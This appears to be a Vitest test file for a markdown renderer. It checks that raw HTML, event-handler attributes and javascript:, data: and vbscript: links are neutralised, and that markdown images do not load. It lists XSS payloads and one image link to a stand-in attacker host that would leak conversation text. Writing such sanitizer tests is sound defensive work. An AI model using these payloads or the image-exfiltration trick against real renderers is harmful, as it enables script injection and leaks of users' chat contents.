import { afterEach, describe, expect, it } from "vitest";
import { renderMarkdown } from "../src/markdown";

/** Render into a live document and report whether anything ran. */
function mount(markdown: string): HTMLElement {
  const el = document.createElement("div");
  el.innerHTML = renderMarkdown(markdown);
  document.body.appendChild(el);
  return el;
}

afterEach(() => {
  document.body.innerHTML = "";
  delete (window as unknown as Record<string, unknown>).pwned;
});

const PAYLOADS = [
  "<img src=x onerror=\"window.pwned=1\">",
  "<script>window.pwned=1</script>",
  "<svg onload=window.pwned=1></svg>",
  "<iframe src=\"javascript:window.pwned=1\"></iframe>",
  "<a href=\"javascript:window.pwned=1\">x</a>",
  "<details open ontoggle=window.pwned=1>",
  "<style>body{display:none}</style>",
  "<form action=javascript:alert(1)><button>x</button></form>",
];

describe("renderMarkdown", () => {
  it("renders markdown, code blocks and safe links", () => {
    const el = mount("# Title\n\n**bold** and `code`\n\n```python\nprint('<b>hi</b>')\n```\n\n[docs](https://example.com/a)");
    expect(el.querySelector("h1")?.textContent).toBe("Title");
    expect(el.querySelector("strong")?.textContent).toBe("bold");
    const pre = el.querySelector("pre code");
    expect(pre?.textContent).toBe("print('<b>hi</b>')\n");
    expect(pre?.className).toBe("language-python");
    const a = el.querySelector("a");
    expect(a?.getAttribute("href")).toBe("https://example.com/a");
    expect(a?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(a?.getAttribute("target")).toBe("_blank");
  });

  it.each(PAYLOADS)("shows raw HTML as text and creates no active element: %s", (payload) => {
    const el = mount(`Answer: ${payload} end`);
    expect(el.querySelector("img, script, svg, iframe, style, form, details, button")).toBeNull();
    for (const node of el.querySelectorAll("*")) {
      for (const attr of node.getAttributeNames()) expect(attr.startsWith("on")).toBe(false);
    }
    expect(el.textContent).toContain(payload.slice(0, 6));
    expect((window as unknown as Record<string, unknown>).pwned).toBeUndefined();
  });

  it.each([
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](  javascript:window.pwned=1)",
    "[click](java&#x09;script:window.pwned=1)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox)",
    "<javascript:window.pwned=1>",
  ])("drops unsafe link targets: %s", (md) => {
    const el = mount(md);
    for (const a of el.querySelectorAll("a")) {
      const href = a.getAttribute("href");
      if (href !== null) expect(href).toMatch(/^(https?:\/\/|mailto:)/i);
    }
  });

  it("never loads images: markdown images become plain links", () => {
    const el = mount("![secret](https://attacker.example/leak?q=conversation)");
    expect(el.querySelector("img")).toBeNull();
    expect(el.querySelector("a")?.textContent).toBe("secret");
  });

  it("renders task lists without form controls", () => {
    const el = mount("- [x] done\n- [ ] todo");
    expect(el.querySelectorAll("li").length).toBe(2);
    expect(el.querySelector("input")).toBeNull();
  });
});
